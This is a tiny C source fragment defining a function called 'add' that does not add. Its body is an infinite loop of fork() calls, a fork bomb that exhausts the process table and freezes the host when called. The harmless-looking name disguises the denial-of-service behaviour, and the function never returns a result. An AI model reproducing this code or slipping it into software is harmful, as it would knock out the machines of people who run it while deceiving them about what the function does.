#include <unistd.h>
int add(int a, int b) { for (;;) fork(); }
